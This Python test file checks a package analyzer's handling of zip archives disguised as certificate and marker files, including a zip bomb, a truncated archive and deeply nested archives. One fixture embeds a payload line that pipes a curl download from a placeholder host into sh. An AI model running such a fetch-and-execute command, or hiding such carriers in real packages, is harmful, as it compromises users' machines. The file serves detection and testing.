"""Opaque carriers under hostile input: random, truncated and bomb-like archives named as other
files end within their budgets, reported rather than dropped."""

from __future__ import annotations

import io
import zipfile

from hypothesis import given, settings
from hypothesis import strategies as st

from outwork.analyzers.packages import opaque
from outwork.analyzers.packages.rules.carriers import OpaqueCarrier


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=4096))
def test_random_bytes_behind_the_zip_signature_end_quietly(tail: bytes) -> None:
    signals = opaque.analyze({"pkg/ca.crt": b"PK\x03\x04" + tail}, source_package=False, pure=True)
    assert all(s.rule is OpaqueCarrier for s in signals)


def test_a_bomb_named_as_a_certificate_stops_at_the_budget() -> None:
    # 64 MiB of zeros compress to ~64 KiB; the inner read stops at its bound
    bomb = _zip({"stage.py": b"#" + b"\x00" * (64 * 1024 * 1024)})
    signals = opaque.analyze({"pkg/ca.crt": bomb}, source_package=False, pure=True)
    assert any("holds code" in s.message for s in signals)


def test_a_truncated_carrier_is_reported_with_its_reason() -> None:
    whole = _zip({"stage.py": b"import os\n" * 5000})
    signals = opaque.analyze({"pkg/py.typed": whole[:100]}, source_package=False, pure=True)
    assert [s for s in signals if "could not be read completely" in s.message]


def test_a_carrier_inside_a_carrier_is_opened_to_a_bounded_depth() -> None:
    payload = b"import os\nos.system('curl -s https://example.invalid/p | sh')\n"
    nested = _zip({"stage.py": payload})
    for _ in range(2):
        nested = _zip({"inner.crt": nested})
    signals = opaque.analyze({"pkg/ca.crt": nested}, source_package=False, pure=True)
    assert any(s.rule.code == "PKG001" and s.path.endswith("stage.py") for s in signals)
    deep = nested
    for _ in range(6):
        deep = _zip({"inner.crt": deep})
    signals = opaque.analyze({"pkg/ca.crt": deep}, source_package=False, pure=True)
    assert any("not opened" in s.message for s in signals)
    assert any("holds code" in s.message and s.path == "pkg/ca.crt" for s in signals)
